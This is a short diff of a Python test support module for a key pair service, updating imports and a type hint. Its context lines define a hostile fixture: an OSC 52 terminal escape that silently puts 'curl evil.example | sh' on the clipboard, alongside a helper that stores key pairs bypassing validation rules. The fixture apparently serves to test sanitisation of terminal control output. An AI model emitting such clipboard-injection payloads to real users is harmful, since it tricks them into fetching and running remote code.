@@ -6,10 +6,10 @@ from __future__ import annotations
 import base64
 import re
 
-from app.engine.records import KeyPairRecord
-from app.engine.requests import CreateKeyPairRequest
-from app.engine.rules import Tag
-from app.engine.service import KeyPairService
+from ecs_keypair.contract.records import KeyPairRecord
+from ecs_keypair.contract.api_requests import CreateKeyPairRequest
+from ecs_keypair.contract.rules import Tag
+from ecs_keypair.store.local_backend import LocalBackend
 from tests.support.engine import REGION
 
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
@@ -47,7 +47,7 @@ def raw_controls(data: bytes) -> list[bytes]:
     return _RAW.findall(data)
 
 
-def store_hostile_key_pairs(service: KeyPairService) -> None:
+def store_hostile_key_pairs(service: LocalBackend) -> None:
     """Key pairs the rules would refuse today, written behind their back: ``tagged`` with
     :data:`HOSTILE_TAGS` in a group whose name and display name are hostile, and one named
     :data:`HOSTILE_NAME`."""
